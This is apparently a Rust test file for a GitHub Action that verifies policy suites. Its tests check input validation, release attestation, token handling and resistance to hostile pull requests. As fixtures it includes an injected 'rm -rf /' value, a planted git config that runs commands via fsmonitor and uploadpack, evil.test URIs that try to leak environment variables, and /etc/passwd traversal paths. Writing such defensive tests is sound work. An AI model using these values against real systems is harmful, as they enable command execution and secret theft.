//! The GitHub action: its scripts alone, and the whole of it in workflows that `act` runs on this machine.
#![cfg(unix)]

use serde_json::json;

use crate::fetching;
use crate::support::act::{Act, Log, verify};
use crate::support::program::program;
use crate::support::registry::FakeRegistry;
use crate::support::{EVENTS_OF_STRANGERS, POD, Repository, line_of, project};

const CHECKOUT: &str = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1";

/// A workflow with one job that uses the action with these inputs, and prints its outputs.
fn workflow(inputs: &str) -> String {
    format!(
        "on: [push, pull_request]\npermissions: {{}}\njobs:\n  verify:\n    runs-on: ubuntu-latest\n    steps:\n      \
         - uses: {CHECKOUT}\n      - uses: OWNER/policy-verify@v1\n        id: verify\n        with:\n{inputs}\n      \
         - if: always()\n        env: {{ OUTPUTS: '${{{{ toJSON(steps.verify.outputs) }}}}' }}\n        run: echo \"$OUTPUTS\"\n"
    )
}

/// A repository with one policy, `yes`, which allows everything, and these cases.
fn repository(inputs: &str, cases: &str) -> Repository {
    let suite = format!(
        "version: 1\nname: labels\npolicies: {{ yes: {{ uri: yes.wasm }} }}\ncases:\n{}",
        cases.replace("POD", POD)
    );
    Repository::with_suite(&suite)
        .replying("yes", r#"{"valid":true,"accepted":true}"#)
        .write(".github/workflows/verify.yml", workflow(inputs))
}

/// The outputs of the action, as the workflow saw them.
fn seen(log: &Log) -> serde_json::Value {
    let lines = log.0.stdout.lines().filter_map(|line| line.split_once("  | ")).map(|(_, line)| line);
    let text: Vec<&str> = lines.skip_while(|line| *line != "{").collect();
    serde_json::from_str(&text.join("\n")).unwrap_or_else(|error| panic!("{error}\n{}", log.0))
}

#[test]
fn a_green_suite_passes_the_gate() {
    let Some(act) = Act::new() else { return };
    let repository = repository("          suite: suite.yml", "  - { name: a, object: POD, expect: allow }\n");
    let log = act.run(&repository, "push", &json!({}));
    let seen = seen(&log);
    let Log(finished) = log;
    let finished = finished.never_says("secret-token");
    finished.exits_with(0).says(&["checksum of policy-verify-", "1 test: 1 passed"]);
    assert_eq!((&seen["conclusion"], &seen["total"], &seen["passed"]), (&json!("success"), &json!("1"), &json!("1")));
    assert!(seen["junit-path"].as_str().unwrap().ends_with("/policy-verify-junit.xml"));
    for path in ["json-path", "summary-path"] {
        assert!(seen[path].as_str().unwrap().starts_with('/'), "{seen}");
    }
    let version = env!("CARGO_PKG_VERSION");
    let tools = act.noted("tools");
    let base = format!("https://github.com/OWNER/policy-verify/releases/download/v{version}/");
    assert!(tools.contains(&format!("curl {base}SHA256SUMS\n")), "{tools}");
    assert!(
        tools
            .contains("--repo OWNER/policy-verify --signer-workflow OWNER/policy-verify/.github/workflows/release.yml")
    );
}

#[test]
fn a_red_suite_fails_the_gate_on_the_lines_that_missed() {
    let Some(act) = Act::new() else { return };
    let cases = "  - { name: good, object: POD, expect: allow }\n  - name: bad\n    object: POD\n    expect:\n      deny: because\n";
    let repository = repository("          version: preinstalled", cases);
    act.tool("verify", &verify());
    let log = act.run(&repository, "push", &json!({}));
    let line = line_of(&repository.read("suite.yml"), "deny: because");
    assert_eq!(log.annotations("error"), [format!("suite.yml:{line} labels › bad")], "{}", log.0);
    log.has_outputs(&["conclusion=failure", "total=2", "passed=1", "failed=1", "errors=0"]);
    let seen = seen(&log);
    assert_eq!((&seen["conclusion"], &seen["failed"]), (&json!("failure"), &json!("1")));
    log.0.exits_with(1).says(&["## ❌ 2 tests: 1 passed, 1 failed"]);
    assert!(!act.noted("tools").contains("curl"), "nothing is downloaded for `preinstalled`");
}

#[test]
fn a_suite_with_a_mistake_is_an_error_of_its_own() {
    let Some(act) = Act::new() else { return };
    let repository = repository("          fail-on: none", "  - { name: a, object: POD, expct: allow }\n");
    let log = act.run(&repository, "push", &json!({}));
    assert_eq!(seen(&log)["conclusion"], "error");
    log.0.exits_with(1).says(&["did you mean `expect`?", "exit status 2"]);
}

#[test]
fn a_gate_that_only_reports_says_what_it_found() {
    let Some(act) = Act::new() else { return };
    let inputs = "          fail-on: none\n          annotations: False\n          summary: FALSE\n          \
                  filter: |\n            bad|worse\n\n            good\n          tags: '!slow'\n          vars: |\n            team=a b\n          \
                  reports: |\n            json=out/report.json\n            markdown=out/summary.md";
    let suite = "  - { name: good, object: POD, expect: allow }\n  - { name: 'bad ${team}', object: POD, expect: { deny: because } }\n  \
                 - { name: slow good, tags: [slow], object: POD, expect: allow }\n  - { name: other, object: POD, expect: allow }\n";
    let repository = repository(inputs, suite);
    let text = repository.read("suite.yml").replace("cases:", "vars: { team: x }\ncases:");
    let repository = repository.write("suite.yml", text).write("out/.keep", "");
    let log = act.run(&repository, "push", &json!({}));
    assert_eq!(log.annotations("error"), [""; 0]);
    let seen = seen(&log);
    assert_eq!((&seen["conclusion"], &seen["total"], &seen["failed"]), (&json!("failure"), &json!("2"), &json!("1")));
    assert!(seen["json-path"].as_str().unwrap().ends_with("/out/report.json"), "{seen}");
    log.0.exits_with(0).says(&["bad a b"]).never_says("Summary -");
}

#[test]
fn files_of_the_pull_request_are_annotated_first() {
    let Some(act) = Act::new() else { return };
    let eleven: String = (0..11)
        .map(|number| format!("  - {{ name: old {number}, object: POD, expect: {{ deny: because }} }}\n"))
        .collect();
    let repository = repository("          suite: |\n            suite.yml\n            new/suite.yml", &eleven);
    let git = "git -c user.name=t -c user.email=t@example.com";
    repository
        .shell(&format!(
            "git init -q; git add -A; {git} commit -qm base; git checkout -qb change; mkdir new; \
             sed 's/old 0/new/; s/yes.wasm/..\\/yes.wasm/; /old/d; s/name: labels/name: added/' suite.yml > new/suite.yml; git add -A; \
             {git} commit -qm change; git checkout -q main; {git} merge -q --no-ff change -m merge"
        ))
        .env("HOME", repository.path(""))
        .run()
        .exits_with(0);
    let log = act.run(&repository, "pull_request", &json!({ "pull_request": { "number": 7 } }));
    let annotations = log.annotations("error");
    assert_eq!(annotations.len(), 10, "{}", log.0);
    assert!(annotations[0].starts_with("new/suite.yml:"), "{annotations:?}");
    assert!(annotations[9].ends_with("and 3 more%2C see the summary"), "{annotations:?}");
}

/// A workflow of the documentation.
pub(crate) fn example(name: &str) -> String {
    std::fs::read_to_string(project().join("docs/examples/github").join(name)).unwrap()
}

#[test]
fn the_gate_of_the_documentation_works() {
    let Some(act) = Act::new() else { return };
    let suite = format!(
        "version: 1\nname: gate\npolicies: {{ p: {{ uri: policy.wasm }} }}\ncases:\n  - {{ name: a, object: {POD}, expect: {{ deny: no }} }}\n"
    );
    let repository = Repository::with_suite(&suite)
        .replying("source", r#"{"valid":true,"accepted":false,"message":"no"}"#)
        .write("Makefile", "policy.wasm:\n\tcp source.wasm policy.wasm\n")
        .write(".github/workflows/gate.yml", example("gate.yml"));
    act.run(&repository, "pull_request", &json!({ "pull_request": { "number": 7 } }))
        .0
        .exits_with(0)
        .says(&["1 test: 1 passed"]);
    let junit = std::fs::read_to_string(act.path("artifacts/junit/policy-verify-junit.xml")).unwrap();
    assert!(
        junit.contains(r#"<testsuites name="policy-verify" tests="1" skipped="0" failures="0" errors="0""#),
        "{junit}"
    );
}

#[test]
fn the_shards_of_the_documentation_are_merged_into_one_verdict() {
    let Some(act) = Act::new() else { return };
    let policies = ["a", "b", "c", "d"];
    let cases = |name: &str| {
        format!(
            "  - {{ name: {name} good, policy: {name}, object: {POD}, expect: {{ deny: no }} }}\n  \
             - {{ name: {name} bad, policy: {name}, object: {POD}, expect: {{ deny: yes }} }}\n"
        )
    };
    let declared: Vec<String> = policies.iter().map(|name| format!("{name}: {{ uri: {name}.wasm }}")).collect();
    let suite = format!(
        "version: 1\nname: s\npolicies: {{ {} }}\ncases:\n{}",
        declared.join(", "),
        policies.map(cases).concat()
    );
    let repository = policies.iter().fold(Repository::with_suite(&suite), |repository, name| {
        repository.replying(name, &format!(r#"{{"valid":true,"accepted":false,"message":"no","x":"{name}"}}"#))
    });
    let repository = repository
        .write("Makefile", "policies:\n\ttest -f a.wasm\n")
        .write(".github/workflows/shards.yml", example("shards.yml"));
    let log = act.run(&repository, "push", &json!({}));
    let whole = repository.report(&[]);
    let summary = &whole.0["summary"];
    log.has_outputs(&[
        "conclusion=failure",
        &format!("total={}", summary["total"]),
        &format!("failed={}", summary["failed"]),
    ]);
    let lines: Vec<usize> = policies.map(|name| line_of(&suite, &format!("{name} bad"))).into();
    let expected: Vec<String> =
        policies.iter().zip(lines).map(|(name, line)| format!("suite.yml:{line} s › {name} bad")).collect();
    assert_eq!(log.annotations("error"), expected, "{}", log.0);
    let shards = std::fs::read_dir(act.path("artifacts")).unwrap().count();
    assert_eq!(shards, 3);
    log.0.exits_with(1);
}

#[test]
fn nothing_is_pushed_from_a_pull_request() {
    for event in EVENTS_OF_STRANGERS {
        script(&Repository::new(), "check.sh", &[("IN_PUSH", "true"), ("GITHUB_EVENT_NAME", event)])
            .exits_with(2)
            .says(&[&format!("nothing is pushed on the event `{event}`")]);
    }
    for (protected, code) in [("true", 0), ("false", 2)] {
        let event = [("GITHUB_EVENT_NAME", "workflow_dispatch"), ("GITHUB_REF_PROTECTED", protected)];
        script(&Repository::new(), "check.sh", &[&event[..], &[("IN_PUSH", "true")]].concat()).exits_with(code);
    }
    for event in ["push", "release", "schedule"] {
        script(&Repository::new(), "check.sh", &[("IN_PUSH", "true"), ("GITHUB_EVENT_NAME", event)]).exits_with(0);
    }
    for (input, value, message) in [
        ("IN_FAIL_ON", "none", "only what passed is pushed"),
        ("IN_MERGE", "shards/*.json", "`merge` and `push` exclude each other"),
    ] {
        script(&Repository::new(), "check.sh", &[("IN_PUSH", "true"), (input, value)]).exits_with(2).says(&[message]);
    }
}

#[test]
fn existing_registry_login_is_kept() {
    let Some(_) = program("jq") else { return };
    for (config, is_left) in [
        (r#"{"auths":{"ghcr.io":{"auth":"eA=="}}}"#, true),
        (r#"{"credsStore":"desktop"}"#, true),
        (r#"{"auths":{"other.io":{"auth":"eA=="}}}"#, false),
    ] {
        let repository = Repository::new().write("docker/config.json", config);
        let folder = repository.path("docker");
        let inputs =
            [("DOCKER_CONFIG", folder.to_str().unwrap()), ("GH_TOKEN", "t0ken"), ("IN_REGISTRY_USERNAME", "me")];
        script(&repository, "login.sh", &inputs).exits_with(0).never_says("t0ken");
        let after = repository.read_json("docker/config.json");
        assert_eq!(after == serde_json::from_str::<serde_json::Value>(config).unwrap(), is_left, "{after}");
        if !is_left {
            assert_eq!(
                after["auths"],
                json!({ "ghcr.io": { "auth": "bWU6dDBrZW4=" }, "other.io": { "auth": "eA==" } })
            );
        }
    }
}

/// One of the scripts, as a step of the action would run it, with these inputs beside the usual ones.
pub(crate) fn script(repository: &Repository, name: &str, inputs: &[(&str, &str)]) -> crate::support::Finished {
    script_in(repository, "", name, inputs)
}

/// The same in a folder of the repository.
fn script_in(repository: &Repository, folder: &str, name: &str, inputs: &[(&str, &str)]) -> crate::support::Finished {
    let usual = [
        ("IN_ANNOTATIONS", "true"),
        ("IN_SUMMARY", "true"),
        ("IN_CACHE", "true"),
        ("IN_VERIFY_RELEASE", "auto"),
        ("ACTION_VERIFY_RELEASE", "auto"),
        ("IN_FAIL_ON", "failure"),
        ("IN_PUSH", "false"),
        ("IN_MERGE", ""),
        ("IN_SIGN", "true"),
        ("IN_PROVENANCE", "true"),
        ("IN_ATTEST_RESULTS", "true"),
        ("GITHUB_EVENT_NAME", "push"),
        ("IN_VERSION", ""),
        ("IN_WORKING_DIRECTORY", "."),
        ("IN_REPORTS", "junit=junit.xml"),
        ("RUNNER_OS", "Linux"),
        ("RUNNER_ARCH", "X64"),
        ("GITHUB_SERVER_URL", "https://github.com"),
        ("ACTION_REPOSITORY", "OWNER/policy-verify"),
    ];
    // Self-hosted runners have folders of any name.
    let temp = repository.path("runner temp");
    std::fs::create_dir_all(&temp).unwrap();
    let mut command = repository.shell(&format!("bash '{}'", project().join("action").join(name).display()));
    for (name, value) in usual.iter().chain(inputs) {
        command = command.env(name, value);
    }
    command
        .env("ACTION_PATH", project())
        .env("GITHUB_OUTPUT", repository.path("outputs"))
        .env("GITHUB_PATH", repository.path("paths"))
        .env("RUNNER_TEMP", temp)
        .directory(folder)
        .run()
}

#[test]
fn paths_of_a_run_may_have_blanks() {
    let suite = format!(
        "version: 1\npolicies: {{ yes: {{ uri: yes.wasm }} }}\ncases:\n  - {{ name: a b, object: {POD}, expect: allow }}\n"
    );
    let repository = Repository::new()
        .write("my policies/my suite.yml", suite)
        .replying("my policies/yes", r#"{"valid":true,"accepted":true}"#);
    let inputs = [
        ("IN_WORKING_DIRECTORY", "my policies"),
        ("IN_SUITE", "my suite.yml"),
        ("IN_REPORTS", "junit=my report.xml"),
        ("IN_FILTER", "a b"),
        ("IN_TAGS", ""),
        ("IN_VARS", ""),
        ("IN_PARTITION", ""),
        ("GITHUB_ACTIONS", "true"),
    ];
    script(&repository, "run.sh", &inputs).exits_with(0).says(&["1 test: 1 passed"]);
    assert!(repository.read("my policies/my report.xml").contains("<testsuites"));
    let outputs = repository.read("outputs");
    for name in ["junit-path", "json-path", "summary-path"] {
        let path = outputs.lines().find_map(|line| line.strip_prefix(&format!("{name}="))).unwrap();
        assert!(std::path::Path::new(path).is_file(), "{name}: {path}");
    }
    assert_eq!(outputs.matches("runner temp/policy-verify.").count(), 2, "{outputs}");
}

#[test]
fn invalid_action_inputs_are_refused_by_name() {
    for (input, value, message) in [
        ("IN_ANNOTATIONS", "yes", "the input `annotations` is `yes`; it takes true, True, TRUE, false, False or FALSE"),
        ("IN_SUMMARY", "", "the input `summary` is ``"),
        ("IN_CACHE", "1", "the input `cache` is `1`"),
        ("IN_VERIFY_RELEASE", "no", "the input `verify-release` is `no`; it takes auto, attestation or checksum"),
        ("IN_PUSH", "yes", "the input `push` is `yes`"),
        ("IN_FAIL_ON", "never", "the input `fail-on` is `never`; it takes failure, gate or none"),
        ("IN_VERSION", "main; rm -rf /", "the input `version` is `main; rm -rf /`"),
        ("IN_VERSION", "../../other/v1", "the input `version` is"),
        ("IN_WORKING_DIRECTORY", "elsewhere", "has the repository been checked out?"),
        ("IN_REPORTS", "junit=a.xml\nhuman", "the input `reports` has `human`"),
        ("IN_FAIL_ON", "a%0A::error::b", "`a%250A::error::b`"),
        ("IN_FAIL_ON", "a\n::warning::b", "`a%0A::warning::b`"),
    ] {
        script(&Repository::new(), "check.sh", &[(input, value)])
            .exits_with(2)
            .says(&["::error title=policy-verify::", message]);
    }
}

#[test]
fn the_version_is_that_of_the_action_unless_another_is_asked_for() {
    let own = env!("CARGO_PKG_VERSION");
    for (asked, meant) in [
        ("", own),
        ("1.2.3", "1.2.3"),
        ("v1.2.3-rc.1", "1.2.3-rc.1"),
        ("source", "source"),
        ("preinstalled", "preinstalled"),
    ] {
        let repository = Repository::new();
        script(&repository, "check.sh", &[("IN_VERSION", asked)]).exits_with(0);
        let outputs = repository.read("outputs");
        assert!(outputs.contains(&format!("\nversion={meant}\n")), "{outputs}");
        assert_eq!(outputs.contains("cache-key=policy-verify-Linux-X64-"), asked == "source", "{outputs}");
    }
}

/// A folder with stand-ins for `curl` and others in front of the path.
pub(crate) fn with_tools(repository: Repository, tools: &[(&str, &str)]) -> (Repository, String) {
    use std::os::unix::fs::PermissionsExt;

    let mut repository = repository;
    for (name, body) in tools {
        let path = format!("tools/{name}");
        repository = repository.write(&path, format!("#!/bin/sh\n{body}\n"));
        std::fs::set_permissions(repository.path(&path), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = format!("{}:{}", repository.path("tools").display(), std::env::var("PATH").unwrap());
    (repository, path)
}

/// Puts what is asked for into the file behind `--output`: an archive with a `verify` that says `1.2.3`, and its sums.
const CURL: &str = r#"for word; do [ "$last" = --output ] && out=$word; last=$word; done
name=policy-verify-1.2.3-x86_64-unknown-linux-musl
mkdir -p made/$name; printf '#!/bin/sh\necho verify 1.2.3\n' > made/$name/verify; chmod +x made/$name/verify
[ -f made/$name.tar.gz ] || tar -czf made/$name.tar.gz -C made $name
case "$last" in
    */SHA256SUMS) (cd made && sha256sum $name.tar.gz) | sed "$TAMPER" > "$out" ;;
    *) cp "made/${last##*/}" "$out" ;;
esac"#;

#[test]
fn a_release_is_used_only_as_it_was_published() {
    let attested = ("gh", "[ \"$ATTESTED\" = yes ]");
    for (inputs, code, message) in [
        (&[] as &[(&str, &str)], 0, "attestation of policy-verify-1.2.3-x86_64-unknown-linux-musl.tar.gz: not checked"),
        (&[("GH_TOKEN", "t"), ("ATTESTED", "yes")], 0, "verify 1.2.3"),
        (&[("GH_TOKEN", "t")], 2, "is not attested by the release workflow of OWNER/policy-verify"),
        (
            &[("GH_TOKEN", "t"), ("ACTION_VERIFY_RELEASE", "checksum")],
            0,
            "not checked, because `verify-release` is checksum",
        ),
        (&[("GH_TOKEN", "t"), ("ACTION_VERIFY_RELEASE", "attestation")], 2, "is not attested by the release workflow"),
        (&[("ACTION_VERIFY_RELEASE", "attestation")], 2, "needs gh and the input `github-token`"),
        (&[("TAMPER", "s/^./x/")], 2, "the release says x"),
        (&[("TAMPER", "s/^./x/"), ("ACTION_VERIFY_RELEASE", "checksum")], 2, "the release says x"),
        (&[("TAMPER", "s/musl/gnu/")], 2, "SHA256SUMS of release v1.2.3 does not name"),
        (&[("RUNNER_OS", "FreeBSD")], 2, "there is no binary of verify for FreeBSD on X64"),
        (
            &[("RUNNER_ARCH", "ARM64")],
            2,
            "cannot download https://github.com/OWNER/policy-verify/releases/download/v1.2.3/",
        ),
        (&[("ACTION_REPOSITORY", "")], 2, "has no releases of its own"),
    ] {
        let (repository, path) = with_tools(Repository::new(), &[("curl", CURL), attested]);
        let mut inputs = inputs.to_vec();
        inputs.extend([("ACTION_VERSION", "1.2.3"), ("PATH", &path)]);
        let run = script(&repository, "install.sh", &inputs).exits_with(code).says(&[message]);
        assert_eq!(repository.path("paths").exists(), code == 0, "{run}");
    }
}

/// A server of an enterprise has a copy of the release, which its own workflow need not have attested.
#[test]
fn a_release_of_another_server_is_checked_by_its_sum_unless_more_is_asked_for() {
    let other = ("GITHUB_SERVER_URL", "https://github.example.com");
    for (mode, code, message) in [
        ("auto", 0, "not checked, because this is https://github.example.com"),
        ("checksum", 0, "not checked, because `verify-release` is checksum"),
        ("attestation", 2, "is not attested by the release workflow of OWNER/policy-verify"),
    ] {
        let (repository, path) = with_tools(Repository::new(), &[("curl", CURL), ("gh", "exit 1")]);
        let inputs =
            [other, ("GH_TOKEN", "t"), ("ACTION_VERIFY_RELEASE", mode), ("ACTION_VERSION", "1.2.3"), ("PATH", &path)];
        script(&repository, "install.sh", &inputs).exits_with(code).says(&[message]);
    }
}

#[test]
fn another_version_than_the_one_asked_for_is_refused() {
    let curl = CURL.replace("echo verify 1.2.3", "echo verify 1.2.2");
    let (repository, path) = with_tools(Repository::new(), &[("curl", &curl)]);
    script(&repository, "install.sh", &[("ACTION_VERSION", "1.2.3"), ("PATH", &path)])
        .exits_with(2)
        .says(&["the release v1.2.3 holds `verify 1.2.2`"]);
}

#[test]
fn a_source_build_is_made_once_and_never_found() {
    let cargo = "for word; do root=$word; done; mkdir -p \"$root/bin\"; \
                 printf '#!/bin/sh\\necho verify 0\\n' > \"$root/bin/verify\"; chmod +x \"$root/bin/verify\"; pwd > \"$root/where\"";
    let (repository, path) = with_tools(Repository::new(), &[("cargo", cargo)]);
    let install = |cache_hit: &str| {
        let inputs = [("ACTION_VERSION", "source"), ("PATH", path.as_str()), ("CACHE_HIT", cache_hit)];
        script(&repository, "install.sh", &inputs)
    };
    let planted = "runner temp/policy-verify-source/bin/verify";
    let plant = || {
        use std::os::unix::fs::PermissionsExt;

        std::fs::create_dir_all(repository.path(planted).parent().unwrap()).unwrap();
        std::fs::write(repository.path(planted), "#!/bin/sh\necho planted\n").unwrap();
        std::fs::set_permissions(repository.path(planted), std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    for cache_hit in ["", "false"] {
        plant();
        install(cache_hit).exits_with(0).says(&["verify 0"]).never_says("planted").never_says("earlier run");
    }
    let built_in = repository.read("runner temp/policy-verify-source/where");
    assert_eq!(built_in.trim(), project().canonicalize().unwrap().to_str().unwrap());
    install("true").exits_with(0).says(&["verify was built in an earlier run", "verify 0"]);
    // What lies there before the cache is restored is gone.
    plant();
    script(&repository, "check.sh", &[("IN_VERSION", "source")]).exits_with(0);
    assert!(!repository.path(planted).exists());
}

/// Every argument of every call of `jq` is written down.
#[test]
fn credentials_are_in_no_arguments() {
    let Some(jq) = program("jq") else { return };
    let jq = format!("printf '%s\\n' \"$@\" >> \"$RUNNER_TEMP/arguments\"; exec '{}' \"$@\"", jq.display());
    let (repository, path) = with_tools(Repository::new(), &[("jq", &jq)]);
    let config = r#"{"auths":{"other.io":{"auth":"b3RoZXI6c2VjcmV0"}},"x":"s3cret"}"#;
    let repository = repository.write("docker/config.json", config);
    let folder = repository.path("docker");
    let inputs = [
        ("DOCKER_CONFIG", folder.to_str().unwrap()),
        ("GH_TOKEN", "t0ken"),
        ("IN_REGISTRY_USERNAME", "me"),
        ("PATH", path.as_str()),
    ];
    script(&repository, "login.sh", &inputs).exits_with(0);
    let arguments = repository.read("runner temp/arguments");
    for secret in ["b3RoZXI6c2VjcmV0", "s3cret", "t0ken", "bWU6dDBrZW4="] {
        assert!(!arguments.contains(secret), "{arguments}");
    }
    let after = repository.read_json("docker/config.json");
    assert_eq!((&after["x"], &after["auths"]["ghcr.io"]["auth"]), (&json!("s3cret"), &json!("bWU6dDBrZW4=")));
}

#[test]
fn the_run_gets_no_token_but_those_that_are_named() {
    let (repository, path) = with_tools(Repository::new(), &[("verify", "env")]);
    let tokens = [("GH_TOKEN", "t0ken"), ("GITHUB_TOKEN", "t0ken"), ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "t0ken")];
    let usual = [
        ("IN_SUITE", "suite.yml"),
        ("IN_FILTER", ""),
        ("IN_TAGS", ""),
        ("IN_VARS", ""),
        ("IN_PARTITION", ""),
        ("PATH", path.as_str()),
    ];
    let run = |allowed: &str| {
        let inputs = [&tokens[..], &usual, &[("IN_ALLOW_ENV", allowed)]].concat();
        script(&repository, "run.sh", &inputs).exits_with(0)
    };
    run("").never_says("t0ken");
    run("OTHER\nTAG").never_says("t0ken");
    let stdout = run("TAG, GITHUB_TOKEN").stdout;
    assert_eq!(stdout.matches("t0ken").count(), 1, "{stdout}");
    let fork = [&tokens[..], &usual, &[("IN_ALLOW_ENV", "GITHUB_TOKEN"), ("FORK", "true")]].concat();
    script(&repository, "run.sh", &fork).exits_with(0).never_says("t0ken");
    let merge = [&tokens[..], &usual, &[("IN_MERGE", "part.json")]].concat();
    script(&repository, "run.sh", &merge).exits_with(0).never_says("t0ken");
}

#[test]
fn suites_reach_the_hosts_that_the_action_lists() {
    let fake = FakeRegistry::start();
    fake.add_policy("acme/p", "v1", &fetching::accepting("p"));
    let repository = fetching::repository(&fake, &[("p", &format!("registry://{}/acme/p:v1", fake.host()))]);
    let usual = [("IN_SUITE", "suite.yml"), ("IN_FILTER", ""), ("IN_TAGS", ""), ("IN_VARS", ""), ("IN_PARTITION", "")];
    let run = |listed: &str| script(&repository, "run.sh", &[&usual[..], &[("IN_ALLOW_HOSTS", listed)]].concat());
    run("none").exits_with(3).says(&["the host `127.0.0.1` is not among the hosts"]);
    assert!(fake.seen().is_empty(), "{:?}", fake.seen());
    run("ghcr.io\n127.0.0.1").exits_with(0);
    run("").exits_with(0);
}

/// A folder that git takes for a bare repository, whose settings run a command.
fn planted_repository(repository: Repository, folder: &str) -> Repository {
    let config = "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = touch pwned-by-fsmonitor\n\
                  \thooksPath = hooks\n[remote \"origin\"]\n\turl = .\n\tpromisor = true\n\
                  \tuploadpack = touch pwned-by-uploadpack;\n[extensions]\n\tpartialClone = origin\n";
    let write = |repository: Repository, path: &str, text: &str| repository.write(&format!("{folder}/{path}"), text);
    let repository = write(repository, "HEAD", "ref: refs/heads/main\n");
    let repository = write(repository, "config", config);
    let repository = write(repository, "refs/heads/main", "1111111111111111111111111111111111111111\n");
    write(repository, "objects/info/.keep", "")
}

#[test]
fn files_of_a_pull_request_are_named_without_running_its_git() {
    let (repository, path) = with_tools(
        Repository::new(),
        &[("gh", "echo \"gh in $(pwd) with ${GH_TOKEN:-none}\" >&2; echo '+++ b/from-gh'")],
    );
    std::fs::remove_dir_all(repository.path(".git")).unwrap();
    // The checkout itself is such a folder, and so is one below.
    let repository = planted_repository(planted_repository(repository, "."), "policies/foo");
    let workspace = repository.path("").canonicalize().unwrap();
    for folder in ["", "policies/foo"] {
        let inputs = [
            ("GITHUB_WORKSPACE", workspace.to_str().unwrap()),
            ("GITHUB_EVENT_NAME", "pull_request"),
            ("GITHUB_REPOSITORY", "acme/p"),
            ("PULL_REQUEST", "7"),
            ("GH_TOKEN", "t0ken"),
            ("PATH", path.as_str()),
        ];
        let run = script_in(&repository, folder, "changes.sh", &inputs).exits_with(0);
        run.says(&["runner temp with t0ken"]);
        let outputs = repository.read("outputs");
        let file = outputs.lines().rev().find_map(|line| line.strip_prefix("file=")).unwrap();
        assert_eq!(std::fs::read_to_string(file).unwrap(), "from-gh\n");
    }
    let planted = std::process::Command::new("find").arg(&workspace).args(["-name", "pwned*"]).output().unwrap();
    assert!(planted.stdout.is_empty(), "{planted:?}");
}

/// What the script about the files of a pull request writes.
fn changes(repository: &Repository, path: &str) -> String {
    let workspace = repository.path("").canonicalize().unwrap();
    let inputs = [
        ("GITHUB_WORKSPACE", workspace.to_str().unwrap()),
        ("GITHUB_EVENT_NAME", "pull_request"),
        ("GITHUB_REPOSITORY", "acme/p"),
        ("PULL_REQUEST", "7"),
        ("GH_TOKEN", "t0ken"),
        ("PATH", path),
    ];
    script_in(repository, "", "changes.sh", &inputs).exits_with(0);
    let outputs = repository.read("outputs");
    let file = outputs.lines().rev().find_map(|line| line.strip_prefix("file=")).unwrap();
    std::fs::read_to_string(file).unwrap()
}

#[test]
fn lines_of_a_pull_request_are_those_of_its_merge() {
    let repository = Repository::new()
        .write("src/lib.rs", "1\n2\n3\n4\n5\n6\n7\n8\n")
        .write("gone.yml", "a\n")
        .write("my suite.yml", "a\n");
    let git = "git -c user.name=a -c user.email=a@b -c commit.gpgsign=false";
    let script = format!(
        "set -e; rm -rf .git; git init -q -b main; {git} add -A; {git} commit -qm base; {git} checkout -qb change; \
         printf '1\\n2\\nnew\\n++ b/trick\\n4\\nother\\n6\\n8\\n9' > src/lib.rs; rm gone.yml; \
         printf 'a\\nb\\n' > 'my suite.yml'; printf 'new\\n' > new.yml; {git} add -A; {git} commit -qm change; \
         {git} checkout -q main; {git} merge -q --no-ff -m merge change"
    );
    repository.shell(&script).run().exits_with(0);
    let found = changes(&repository, &std::env::var("PATH").unwrap());
    assert_eq!(found, "my suite.yml\t2\nnew.yml\t1\nsrc/lib.rs\t3-4,6,9\n");
}

#[test]
fn lines_of_a_pull_request_come_from_github_without_a_merge() {
    let patch = "@@ -1,4 +1,5 @@ fn a() {\n 1\n-2\n+two\n+++ b/trick\n 3\n 4\n@@ -9 +10,2 @@\n 9\n+10\n\\ No newline at end of file";
    let tool = format!("cat <<'EOF'\n+++ b/src/lib.rs\n{patch}\n+++ b/large.json\nEOF");
    let (repository, path) = with_tools(Repository::new(), &[("gh", &tool)]);
    assert_eq!(changes(&repository, &path), "src/lib.rs\t2-3,11\nlarge.json\n");
}

/// A thing that a stranger tries: the suite, a link in the folder of the suite and what it leads to, and what the run says.
struct Trick {
    suite: String,
    link: Option<(&'static str, &'static str)>,
    says: &'static str,
    code: i32,
}

/// A suite with one case and these keys of its policy and of the case, beside those that it needs.
fn trick(policy: &str, case: &str, says: &'static str) -> Trick {
    let usual = [("name:", "name: a"), ("expect:", "expect: allow")];
    let mut keys: Vec<String> = vec![case.to_owned()];
    keys.extend(usual.iter().filter(|(key, _)| !case.contains(key)).map(|(_, text)| (*text).to_owned()));
    if !["object", "request:", "raw:"].iter().any(|key| case.contains(key)) {
        keys.push(format!("object: {POD}"));
    }
    let keys: Vec<&str> = keys.iter().map(String::as_str).filter(|key| !key.is_empty()).collect();
    let case = keys.join(", ");
    let suite = format!("version: 1\nname: s\npolicies: {{ yes: {{ {policy} }} }}\ncases:\n  - {{ {case} }}\n");
    Trick { suite, link: None, says, code: 1 }
}

fn with_link(trick: Trick, link: &'static str, target: &'static str) -> Trick {
    Trick { link: Some((link, target)), ..trick }
}

/// What a pull request can bring. `OUT` is a folder outside, with a file `config.json` that nobody may see.
fn tricks() -> Vec<Trick> {
    const YES: &str = "uri: yes.wasm";
    const NOT_ALLOWED: &str = "is not allowed";
    const OUTSIDE: &str = "outside the repository";
    let variables = [
        ("name: 'a ${env:GITHUB_TOKEN}'", NOT_ALLOWED),
        ("name: 'a ${env:OTHER}'", NOT_ALLOWED),
        ("name: 'a ${env:OTHER:-x}'", NOT_ALLOWED),
        ("name: 'a ${env:TAG}'", "the pull request of the fork `evil/p`"),
        ("tags: ['${env:OTHER}']", NOT_ALLOWED),
        ("settings: { '${env:OTHER}': 1 }", NOT_ALLOWED),
        ("expect: { deny: '${env:OTHER}' }", NOT_ALLOWED),
        ("each: [{ v: '${env:OTHER}' }], name: 'a ${v}'", NOT_ALLOWED),
    ];
    let mut tricks: Vec<Trick> = variables.map(|(case, says)| trick(YES, case, says)).into();
    for uri in [
        "uri: 'https://${env:OTHER}.evil.test/p.wasm'",
        "uri: 'https://evil.test/${env:OTHER}/p.wasm'",
        "uri: 'registry://evil.test/${env:OTHER}:v1'",
        "uri: 'registry://evil.test/p:${env:OTHER}'",
    ] {
        tricks.push(trick(uri, "", NOT_ALLOWED));
    }
    for policy in [
        "uri: ../../../../etc/passwd",
        "uri: /etc/passwd",
        "uri: file:///etc/passwd",
        "uri: away/config.json",
        "uri: yes.wasm, metadata: away/config.json",
